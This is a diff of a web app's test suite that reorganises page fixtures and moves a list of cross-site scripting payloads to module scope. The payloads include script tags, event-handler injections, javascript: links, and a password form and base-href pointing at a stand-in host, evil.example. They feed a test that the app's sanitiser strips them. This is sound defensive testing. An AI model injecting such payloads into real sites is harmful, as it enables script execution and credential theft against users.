@@ -15,6 +15,12 @@ import { pages } from './pages.tables.ts'
 let app: TestApp
 beforeAll(async () => {
   app = await createDocumentApp()
+  await store('/landing/spring', 'Come in.', { title: 'Spring at {site}' })
+  await store('/landing/draft', 'Not yet.', { isPublished: false })
+  await store('/landing/register', 'Never shown.')
+  await store('/our-story', 'It began in a small town.')
+  await store('/their-story', 'It has no beginning yet.', { isPublished: false })
+  await store('/hostile', HOSTILE, { title: '</title><script>alert(7)</script>' })
 })
 afterAll(() => app.close())
 
@@ -33,6 +39,16 @@ const store = async (path: string, body: string, page: Partial<typeof pages.$inf
     ...page,
   })
 }
+
+const HOSTILE = [
+  '# Top <script>alert(1)</script>',
+  '<img src="https://evil.example/x.png" onerror="alert(2)"> ![pic](https://evil.example/y.png)',
+  '<iframe src="//evil.example"></iframe><svg onload=alert(3)></svg><style>*{display:none}</style>',
+  '<a href="javascript:alert(4)" onclick="alert(5)" style="position:fixed">link</a> [md](javascript:alert(6))',
+  '<form action="https://evil.example"><input name="password"></form><object data="x"></object>',
+  '<link rel="stylesheet" href="https://evil.example/z.css"><base href="https://evil.example/">',
+  '[out](https://example.org "t") and [odd](//evil.example)',
+].join('\n\n')
 
 const DOCUMENTS = PAGES.filter(({ isDocument, path }: PageRoute) => isDocument && !path.includes('{')).map(
   ({ path }) => path,
@@ -147,9 +163,6 @@ test(
   '/landing/register is the registration screen, /landing/{slug} a published page or the 404 page',
   covers('LAND-32'),
   async () => {
-    await store('/landing/spring', 'Come in.', { title: 'Spring at {site}' })
-    await store('/landing/draft', 'Not yet.', { isPublished: false })
-    await store('/landing/register', 'Never shown.')
     const spring = await open('/landing/spring')
     expect([spring.statusCode, textOf(spring.body)]).toEqual([
       200,
@@ -166,13 +179,11 @@ test(
 )
 
 test('a page at an address of its own is shown; one that is not published, nowhere', async () => {
-  await store('/our-story', 'It began in a small town.')
   expect(await read('/our-story')).toContain('It began in a small town.')
   expect(await read('/our-story/')).toContain('It began in a small town.')
   expect((await app.visitor().call(getPage, { path: '/our-story' })).ok.page.html).toContain('small town')
-  await app.services.db.update(pages).set({ isPublished: false }).where(eq(pages.path, '/our-story'))
-  expect((await open('/our-story')).statusCode).toBe(404)
-  expect((await app.visitor().call(getPage, { path: '/our-story' })).status).toBe(404)
+  expect((await open('/their-story')).statusCode).toBe(404)
+  expect((await app.visitor().call(getPage, { path: '/their-story' })).status).toBe(404)
 })
 
 test.each(['/document.html', '/index.html'])('the template %s is no page', async (path) => {
@@ -180,16 +191,6 @@ test.each(['/document.html', '/index.html'])('the template %s is no page', async
 })
 
 test('nothing in a stored text runs, hides, or asks another host for anything', async () => {
-  const hostile = [
-    '# Top <script>alert(1)</script>',
-    '<img src="https://evil.example/x.png" onerror="alert(2)"> ![pic](https://evil.example/y.png)',
-    '<iframe src="//evil.example"></iframe><svg onload=alert(3)></svg><style>*{display:none}</style>',
-    '<a href="javascript:alert(4)" onclick="alert(5)" style="position:fixed">link</a> [md](javascript:alert(6))',
-    '<form action="https://evil.example"><input name="password"></form><object data="x"></object>',
-    '<link rel="stylesheet" href="https://evil.example/z.css"><base href="https://evil.example/">',
-    '[out](https://example.org "t") and [odd](//evil.example)',
-  ].join('\n\n')
-  await store('/hostile', hostile, { title: '</title><script>alert(7)</script>' })
   const { body } = await open('/hostile')
   const main = /<main.*<\/main>/s.exec(body)?.[0] ?? ''
   expect(body.match(/<script/g)).toBeNull()
